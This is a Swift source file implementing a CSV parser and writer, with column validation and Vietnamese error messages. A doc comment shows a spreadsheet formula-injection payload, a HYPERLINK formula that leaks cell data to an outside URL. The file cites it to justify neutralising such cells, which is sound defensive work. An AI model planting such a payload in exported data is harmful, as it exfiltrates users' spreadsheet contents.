import Foundation

/// A parsed CSV file: the header row and the data records.
public struct CSVTable: Sendable, Equatable {
    /// Column names, trimmed.
    public let header: [String]
    public let rows: [CSVRecord]

    public init(header: [String], rows: [CSVRecord]) {
        self.header = header
        self.rows = rows
    }
}

public struct CSVRecord: Sendable, Equatable {
    /// 1-based physical line where the record starts (the header is line 1), for error messages.
    public let line: Int
    /// Cells as written, not trimmed.
    public let fields: [String]

    public init(line: Int, fields: [String]) {
        self.line = line
        self.fields = fields
    }
}

/// A problem in a CSV file, with a Vietnamese message meant for the person who prepared the file.
public struct CSVError: Error, Equatable, Sendable, CustomStringConvertible {
    /// 1-based line, or 0 when the problem concerns the whole file.
    public let line: Int
    public let message: String

    public init(line: Int, message: String) {
        self.line = line
        self.message = message
    }

    public var description: String {
        line > 0 ? "Dòng \(line): \(message)" : message
    }

    static let notUTF8 = "tệp không phải UTF-8"
    static let empty = "tệp trống"
    static let unclosedQuote = "dấu ngoặc kép không được đóng"
    static let textAfterQuote = "có ký tự sau dấu ngoặc kép đóng (ô có dấu ngoặc kép phải được bao trọn trong ngoặc kép)"
}

/// RFC 4180 reader: comma separator, fields quoted with `"` and `""` inside them, line breaks inside quoted
/// fields, CRLF, LF or CR line endings, an optional UTF-8 byte order mark.
///
/// Leniencies, for files saved by spreadsheets or edited by hand: spaces before an opening quote and after a
/// closing quote are ignored; a `"` in the middle of an unquoted cell is kept as it is (`12" TV`); blank lines,
/// and lines whose cells are all empty (",,,," rows Excel leaves behind), are skipped.
///
/// The parser walks the UTF-8 bytes once; every structural character is ASCII, so cutting the bytes there never
/// splits a multi-byte character.
public enum CSVParser {

    public static func parse(_ text: String) throws -> CSVTable {
        var text = text
        return try text.withUTF8 { try parse(bytes: $0) }
    }

    public static func parse(data: Data) throws -> CSVTable {
        try data.withUnsafeBytes { raw in
            let bytes = raw.bindMemory(to: UInt8.self)
            if let line = firstInvalidUTF8Line(bytes) {
                throw CSVError(line: line, message: CSVError.notUTF8)
            }
            return try parse(bytes: bytes)
        }
    }

    private static let quote = UInt8(ascii: "\""), comma = UInt8(ascii: ",")
    private static let cr = UInt8(ascii: "\r"), lf = UInt8(ascii: "\n")
    private static let space = UInt8(ascii: " "), tab = UInt8(ascii: "\t")

    private static func parse(bytes all: UnsafeBufferPointer<UInt8>) throws -> CSVTable {
        var i = bomLength(all)
        var line = 1
        var records: [CSVRecord] = []
        while let record = try nextRecord(all, at: &i, line: &line) { records.append(record) }
        guard let first = records.first else { throw CSVError(line: 0, message: CSVError.empty) }
        return CSVTable(header: header(first), rows: Array(records.dropFirst()))
    }

    static func bomLength(_ all: UnsafeBufferPointer<UInt8>) -> Int {
        all.count >= 3 && all[0] == 0xEF && all[1] == 0xBB && all[2] == 0xBF ? 3 : 0
    }

    static func header(_ record: CSVRecord) -> [String] {
        record.fields.map { $0.trimmingCharacters(in: .whitespaces) }
    }

    /// The record that starts at `i` (on physical line `line`), skipping blank ones; `i` and `line` are left after
    /// it. Nil at the end of the bytes.
    static func nextRecord(_ all: UnsafeBufferPointer<UInt8>, at i: inout Int, line: inout Int) throws -> CSVRecord? {
        let n = all.count
        var fields: [String] = []
        var recordLine = line
        var field: [UInt8] = []  // only used for quoted fields, which need "" unescaped

        func string(_ start: Int, _ end: Int) -> String {
            String(decoding: UnsafeBufferPointer(rebasing: all[start..<end]), as: UTF8.self)
        }
        /// Consumes a line break at `i` if there is one (CRLF, LF or a lone CR).
        func lineBreak() -> Bool {
            guard i < n else { return false }
            if all[i] == lf {
                i += 1
                line += 1
                return true
            }
            if all[i] == cr {
                i += 1
                if i < n, all[i] == lf { i += 1 }
                line += 1
                return true
            }
            return false
        }

        while i < n {
            if fields.isEmpty {
                recordLine = line
                if lineBreak() { continue }  // blank line
            }
            // Start of a field. Skip spaces to see whether it is quoted; unquoted cells keep them.
            let start = i
            var j = i
            while j < n, all[j] == space || all[j] == tab { j += 1 }
            if j < n, all[j] == quote {
                let quoteLine = line
                i = j + 1
                field.removeAll(keepingCapacity: true)
                var closed = false
                while i < n {
                    // Copy the run of ordinary bytes in one go.
                    let runStart = i
                    while i < n, all[i] != quote, all[i] != lf, all[i] != cr { i += 1 }
                    field.append(contentsOf: UnsafeBufferPointer(rebasing: all[runStart..<i]))
                    guard i < n else { break }
                    if all[i] == quote {
                        if i + 1 < n, all[i + 1] == quote {
                            field.append(quote)
                            i += 2
                        } else {
                            i += 1
                            closed = true
                            break
                        }
                    } else {
                        // A line break inside the quotes belongs to the cell, as written.
                        let breakStart = i
                        _ = lineBreak()
                        field.append(contentsOf: UnsafeBufferPointer(rebasing: all[breakStart..<i]))
                    }
                }
                guard closed else { throw CSVError(line: quoteLine, message: CSVError.unclosedQuote) }
                fields.append(String(decoding: field, as: UTF8.self))
                while i < n, all[i] == space || all[i] == tab { i += 1 }
                if i < n, all[i] != comma, all[i] != lf, all[i] != cr {
                    throw CSVError(line: line, message: CSVError.textAfterQuote)
                }
            } else {
                i = start
                while i < n, all[i] != comma, all[i] != lf, all[i] != cr { i += 1 }
                fields.append(string(start, i))
            }
            // After a field: a comma (another field follows, possibly empty at end of line) or the end of record.
            if i < n, all[i] == comma {
                i += 1
                if i == n || all[i] == lf || all[i] == cr { fields.append("") } else { continue }
            }
            _ = lineBreak()
            if fields.contains(where: { !isBlank($0) }) { return CSVRecord(line: recordLine, fields: fields) }
            fields.removeAll(keepingCapacity: true)
        }
        return nil
    }

    private static func isBlank(_ s: String) -> Bool {
        s.utf8.allSatisfy { $0 == space || $0 == tab }
    }

    /// The line of the first byte sequence that is not valid UTF-8, or nil when all of it is valid.
    static func firstInvalidUTF8Line(_ bytes: UnsafeBufferPointer<UInt8>) -> Int? {
        // The common case, valid text, is checked by the standard library's fast validator.
        if String(validating: bytes, as: UTF8.self) != nil { return nil }
        var line = 1
        var iterator = bytes.makeIterator()
        var decoder = UTF8()
        while true {
            switch decoder.decode(&iterator) {
            case .scalarValue(let scalar):
                if scalar == "\n" { line += 1 }
            case .emptyInput:
                return nil
            case .error:
                return line
            }
        }
    }
}

/// RFC 4180 writer. Files meant to be opened in Excel should start with `bom`, or Excel reads them as the
/// local ANSI code page and mangles every Vietnamese letter.
public enum CSVWriter {
    public static let bom = "\u{FEFF}"

    /// The cell, made inert and quoted when it contains a comma, a quote, a line break, or spaces at either end
    /// (which a spreadsheet or a trimming reader would otherwise lose).
    public static func field(_ text: String) -> String {
        let s = inert(text)
        let needsQuotes =
            s.utf8.contains {
                $0 == UInt8(ascii: ",") || $0 == UInt8(ascii: "\"")
                    || $0 == UInt8(ascii: "\n") || $0 == UInt8(ascii: "\r")
            }
            || s.first?.isWhitespace == true || s.last?.isWhitespace == true
        guard needsQuotes else { return s }
        return "\"" + s.replacingOccurrences(of: "\"", with: "\"\"") + "\""
    }

    /// A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula (and Excel also after a leading
    /// tab or carriage return): a task named `=HYPERLINK("http://…?leak="&A1,"x")` would send the sheet's data away
    /// when the export is opened. Such a cell gets a leading apostrophe, which spreadsheets show as text (OWASP's
    /// advice). A plain number such as `-12` or `-3,5` is no formula and stays as it is.
    public static func inert(_ s: String) -> String {
        guard let first = s.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first) else { return s }
        if first == "-", isPlainNumber(s.dropFirst()) { return s }
        return "'" + s
    }

    /// Digits with `.` or `,` between them (Vietnamese thousands and decimals), starting and ending with a digit.
    private static func isPlainNumber(_ s: Substring) -> Bool {
        func isDigit(_ c: UInt8) -> Bool { c >= UInt8(ascii: "0") && c <= UInt8(ascii: "9") }
        guard let first = s.utf8.first, let last = s.utf8.last, isDigit(first), isDigit(last) else { return false }
        return s.utf8.allSatisfy { isDigit($0) || $0 == UInt8(ascii: ".") || $0 == UInt8(ascii: ",") }
    }

    /// One record, ending with CRLF as RFC 4180 says.
    public static func line(_ fields: [String]) -> String {
        fields.map(field).joined(separator: ",") + "\r\n"
    }
}

/// Checks a CSV header against the columns an import expects, and reads cells by column name.
///
/// The contract says unknown columns are an error: a misspelt optional column ("han_xu_li") must not be
/// silently ignored, or its data would be lost without anyone noticing.
public struct CSVColumns: Sendable {
    public let header: [String]
    private let index: [String: Int]
    private let known: Set<String>

    /// Throws a CSVError on line 1 naming every unknown, missing and repeated column at once, so the file can be
    /// fixed in one go. Names are compared trimmed and case-insensitively.
    public init(header: [String], required: [String], optional: [String]) throws {
        let names = header.map(CSVColumns.normalized)
        let known = Set((required + optional).map(CSVColumns.normalized))
        var index: [String: Int] = [:]
        var unknown: [String] = []
        var repeated: [String] = []
        for (i, name) in names.enumerated() {
            if !known.contains(name) {
                unknown.append(name.isEmpty ? "(cột \(i + 1) không có tên)" : header[i].trimmingCharacters(in: .whitespaces))
            } else if index[name] != nil {
                if !repeated.contains(name) { repeated.append(name) }
            } else {
                index[name] = i
            }
        }
        let missing = required.filter { index[CSVColumns.normalized($0)] == nil }

        var problems: [String] = []
        if !unknown.isEmpty { problems.append("cột không xác định: " + unknown.joined(separator: ", ")) }
        if !missing.isEmpty { problems.append("thiếu cột bắt buộc: " + missing.joined(separator: ", ")) }
        if !repeated.isEmpty { problems.append("cột bị lặp: " + repeated.joined(separator: ", ")) }
        if !problems.isEmpty {
            let accepted = (required + optional).joined(separator: ", ")
            throw CSVError(line: 1, message: problems.joined(separator: "; ") + " (các cột hợp lệ: \(accepted))")
        }
        self.header = header
        self.index = index
        self.known = known
    }

    /// Whether the file has this column (an optional column may be absent).
    public func has(_ name: String) -> Bool {
        index[CSVColumns.normalized(name)] != nil
    }

    /// The trimmed cell; nil when it is empty, when the optional column is absent, or when the record is too
    /// short (call `check` first to report that).
    public func value(_ name: String, in record: CSVRecord) -> String? {
        // The importers name their columns as the index keys them (trimmed, lower case): found without normalising
        // the name again on every cell (a tenth of an import's CPU, perf).
        guard let i = index[name] ?? index[CSVColumns.normalized(name)], i < record.fields.count else {
            assert(known.contains(CSVColumns.normalized(name)), "column \(name) was not declared")
            return nil
        }
        return CSVColumns.trimmed(record.fields[i])
    }

    /// The cell without surrounding spaces and line breaks, nil when nothing else is left; a cell with none (most)
    /// is returned as it is.
    static func trimmed(_ cell: String) -> String? {
        guard let first = cell.utf8.first, let last = cell.utf8.last else { return nil }
        // A printable ASCII character at both ends (a byte of 0x21–0x7E is that character, in UTF-8).
        if (0x21...0x7E).contains(first), (0x21...0x7E).contains(last) { return cell }
        let value = cell.trimmingCharacters(in: .whitespacesAndNewlines)
        return value.isEmpty ? nil : value
    }

    /// Throws when the record does not have one cell per header column.
    public func check(_ record: CSVRecord) throws {
        guard record.fields.count != header.count else { return }
        throw CSVError(
            line: record.line,
            message: "dòng có \(record.fields.count) ô nhưng dòng tiêu đề có \(header.count) cột "
                + "(ô có dấu phẩy phải được đặt trong ngoặc kép)")
    }

    private static func normalized(_ name: String) -> String {
        name.trimmingCharacters(in: .whitespaces).lowercased()
    }
}

/// One record read through its file's columns: the field accessors every import shares, each refusing a bad value
/// with the record's line and a Vietnamese message that names the column.
public struct CSVFields: Sendable {
    public let columns: CSVColumns
    public let record: CSVRecord

    public var line: Int { record.line }

    public func fail(_ message: String) -> CSVError { CSVError(line: record.line, message: message) }

    /// The trimmed value, nil when the column is absent or the cell empty.
    public func optional(_ name: String) -> String? { columns.value(name, in: record) }

    /// A value that must be there.
    public func text(_ name: String) throws -> String {
        guard let value = optional(name) else { throw fail("thiếu \(name)") }
        return value
    }

    /// A date as dd/mm/yyyy or yyyy-mm-dd; nil when empty.
    public func date(_ name: String) throws -> CivilDate? {
        guard let value = optional(name) else { return nil }
        guard let date = CivilDate.parse(value) else {
            throw fail("\(name) “\(value)” không phải ngày (dd/mm/yyyy hoặc yyyy-mm-dd)")
        }
        if let problem = DateRules.check(date) { throw FieldRuleViolation(line: line, column: name, problem: problem) }
        return date
    }

    /// A month as yyyy-mm; nil when empty.
    public func month(_ name: String) throws -> CivilMonth? {
        guard let value = optional(name) else { return nil }
        guard let month = CivilMonth.parse(value) else { throw fail("\(name) “\(value)” không phải tháng (yyyy-mm)") }
        if let problem = DateRules.check(month) { throw FieldRuleViolation(line: line, column: name, problem: problem) }
        return month
    }

    /// A number in either convention ("1.234,5" or "1234.5"); nil when empty.
    public func decimal(_ name: String) throws -> Decimal? {
        guard let value = optional(name) else { return nil }
        guard let number = VNFormat.parseDecimal(value) else {
            throw fail("\(name) “\(value)” không phải là số (ví dụ 5.300, 1.234,5 hoặc 1234.5)")
        }
        if let problem = NumberRule.check(number) { throw FieldRuleViolation(line: line, column: name, problem: problem) }
        return number
    }
}

extension CSVColumns {
    /// The record's fields, after checking it has one cell per column.
    public func fields(_ record: CSVRecord) throws -> CSVFields {
        try check(record)
        return CSVFields(columns: self, record: record)
    }
}
